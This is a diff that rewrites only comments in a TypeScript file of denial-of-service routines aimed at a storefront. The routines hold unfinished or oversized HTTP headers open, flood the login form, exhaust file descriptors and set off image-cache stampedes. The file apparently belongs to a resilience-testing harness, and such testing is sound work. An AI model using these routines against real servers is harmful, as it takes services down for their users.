@@ -5,9 +5,9 @@ import { attack, type Attack, type Target } from "./attack";
 import { ask, attackerAddress, headOf, holdAndCut, openSocket, openSockets, postOf, repeat } from "./wires";
 import { statusOf, visitMeanwhile, visitorOf, writeAll } from "./wires";
 
-/** Much that waits, and ends at the same moment or holds what others need. */
+/** Many requests that wait, and end at the same moment or occupy what others need. */
 
-/** The storefront gives a head up after 10 s, and looks every 2 s. */
+/** The storefront rejects an unfinished head after 10 s, and checks every 2 s. */
 const HEAD_TIME_MS = 14_000;
 
 async function unfinishedHeads(target: Target): Promise<void> {
@@ -16,12 +16,12 @@ async function unfinishedHeads(target: Target): Promise<void> {
   await holdAndCut(sockets, HEAD_TIME_MS);
 }
 
-/** Almost as long as node:http reads them, in as many lines as it keeps. */
+/** A head almost as long as node:http reads, with as many lines as it stores. */
 const LONG_HEAD = `GET / HTTP/1.1\r\nHost: x\r\n${Array.from({ length: 198 }, (_, at) => `x${at}: ${"v".repeat(150)}\r\n`).join("")}`;
 
 async function longHeads(target: Target): Promise<void> {
   const sockets: Socket[] = [];
-  // Some at a time: it is about what they take together.
+  // Opens some at a time, because only their total memory matters.
   while (sockets.length < 2 * target.connectionsMax) {
     const some = await openSockets(target, 500, 1 + Math.floor(sockets.length / 20));
     if (some.length === 0) break;
@@ -67,12 +67,12 @@ async function prepareSignIns(target: Target) {
   };
 }
 
-/** More than may wait for a turn, though no address has more than it may. */
+/** So many addresses have more requests than may wait in total, though none has more than it may. */
 const TURN_ADDRESSES = 20;
 const TURN_CONNECTIONS = 240;
 const TURNS_MS = 10_000;
 
-/** Each connection posts a form again as soon as it was refused; meanwhile visitors come. */
+/** Each connection posts a form again as soon as it is refused; meanwhile visitors come. */
 async function fillTurns(target: Target): Promise<string[]> {
   const request = postOf(target, "/Login", "csrf=x&mobileNumber=a&loginPword=b");
   const sockets: Socket[] = [];
@@ -121,7 +121,7 @@ async function cutReads(target: Target): Promise<void> {
 
 const FILES_MAX = 1_500;
 
-/** Twice as many connections as the process may have files, on which nothing is asked; meanwhile visitors come. */
+/** Opens twice as many connections as the process may have files, and sends nothing; meanwhile visitors come. */
 async function useUpFiles(target: Target): Promise<string[]> {
   const sockets = await openSockets(target, 2 * FILES_MAX);
   const complaints = await visitMeanwhile(target, 5_000, 50);
@@ -131,7 +131,7 @@ async function useUpFiles(target: Target): Promise<string[]> {
 
 const PICTURE_READERS = 400;
 
-/** A picture of 3 MB, which is not in the memory's cache. */
+/** Requests a picture of 3 MB, which is too large for the cache in memory. */
 async function prepareUnreadPictures(target: Target) {
   const [, path = ""] = target.pictures.noise ?? [];
   const request = headOf(target, `GET ${path}`);
@@ -150,7 +150,7 @@ async function prepareUnreadPictures(target: Target) {
 
 const PICTURE_VISITORS = 600;
 
-/** A picture that is still to be made: all of them wait for it, and get it at once. */
+/** Requests a picture that is not resized yet: all requests wait for it, and get it at the same moment. */
 async function awaitPicture(target: Target): Promise<void> {
   const sockets = await openSockets(target, Math.min(PICTURE_VISITORS, target.connectionsMax));
   const [, path = ""] = target.pictures.noise ?? [];
